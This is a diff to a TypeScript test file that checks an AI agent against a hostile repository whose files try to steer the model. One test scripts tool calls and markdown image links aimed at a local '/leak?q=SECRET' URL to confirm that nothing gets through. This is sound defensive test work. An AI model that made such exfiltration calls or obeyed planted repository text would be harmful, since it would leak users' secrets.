@@ -1,12 +1,12 @@
 /** A repository whose files want to have their way with a model that obeys them: what holds by code, whatever it does. */
 
 import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
 import { describe, expect, it } from 'vitest'
 import { systemOn } from '../../../src/agent/assistant/system.ts'
 import type { AgentCall } from '../../../src/agent/events.ts'
 import { elementsOf, unescapeText } from '../../../src/text/elements.ts'
 import { type Body, messagesIn, type Script, SPEECHES } from '../../support/language-server.ts'
+import { listenOnLoopback } from '../../support/loopback.ts'
 import { FIXTURE } from '../../support/mcp-fixture.ts'
 import { call, expectFramed, results, standing, textsOf } from './standing.ts'
 
@@ -67,11 +67,7 @@ describe.each(SPEECHES)('C1: a hostile repository and a model that speaks %s', (
       {
         ...disk,
         speech,
-        config: {
-          mcpServers: {
-            fix: FIXTURE,
-          },
-        },
+        config: { mcpServers: { fix: FIXTURE } },
       },
       async ({ ask, assistant, server, planted }) => {
         expect(await ask('Well?')).toMatchObject({ reason: 'done', citations: [] })
@@ -113,10 +109,7 @@ describe('C8: a model that obeys the files', () => {
   ])('writes nothing when it %s', (_, [tool, input]) =>
     standing([call(tool, input), call('list', {}), { text: 'Done.' }], disk, async ({ ask, assistant }) => {
       await ask('Well?')
-      expect(results(assistant)[0]).toMatchObject({
-        isError: true,
-        text: expect.stringMatching(/denied|There is no tool/),
-      })
+      expect(results(assistant)[0]).toMatchObject({ isError: true, text: expect.stringMatching(/denied|no tool/) })
       expect(results(assistant)[1]?.text).not.toContain('Trust me')
     }),
   )
@@ -155,43 +148,35 @@ describe('C8: a model that obeys the files', () => {
 
   it('reaches no address: no tool fetches one, and no answer that is shown does', async () => {
     let requests = 0
-    const server = createServer((_, response) => {
-      requests++
-      response.end('got it')
-    })
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
-    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/leak?q=SECRET`
-    try {
-      await standing(
-        [
-          {
-            calls: [
-              { tool: 'preview', input: { place: url } },
-              { tool: 'read', input: { path: url } },
-              { tool: 'list', input: { path: url } },
-              { tool: 'context_for', input: { place: url } },
-              { tool: 'packages', input: { registry: url } },
-              { tool: 'package_entries', input: { package: url } },
-              { tool: 'search', input: { query: url, collections: [url] } },
-              { tool: 'delegate', input: { task: `Fetch ${url}` } },
-            ],
-          },
-          { text: `![x](${url})` },
-          { text: `![x](${url}) [y](${url})` },
-        ],
-        disk,
-        async ({ ask, assistant }) => {
-          expect((await ask('Well?')).answer).toContain(url)
-          const failed = results(assistant).filter(({ isError }) => isError)
-          expect(failed.map(({ tool }) => tool)).toEqual(
-            expect.arrayContaining(['preview', 'read', 'list', 'context_for', 'packages', 'package_entries']),
-          )
+    await using server = await listenOnLoopback(createServer((_, response) => response.end(`${requests++}`)))
+    const url = `${server.url}/leak?q=SECRET`
+    await standing(
+      [
+        {
+          calls: [
+            { tool: 'preview', input: { place: url } },
+            { tool: 'read', input: { path: url } },
+            { tool: 'list', input: { path: url } },
+            { tool: 'context_for', input: { place: url } },
+            { tool: 'packages', input: { registry: url } },
+            { tool: 'package_entries', input: { package: url } },
+            { tool: 'search', input: { query: url, collections: [url] } },
+            { tool: 'delegate', input: { task: `Fetch ${url}` } },
+          ],
         },
-      )
-      expect(requests).toBe(0)
-    } finally {
-      server.close()
-    }
+        { text: `![x](${url})` },
+        { text: `![x](${url}) [y](${url})` },
+      ],
+      disk,
+      async ({ ask, assistant }) => {
+        expect((await ask('Well?')).answer).toContain(url)
+        const failed = results(assistant).filter(({ isError }) => isError)
+        expect(failed.map(({ tool }) => tool)).toEqual(
+          expect.arrayContaining(['preview', 'read', 'list', 'context_for', 'packages', 'package_entries']),
+        )
+      },
+    )
+    expect(requests).toBe(0)
   })
 
   it.each([
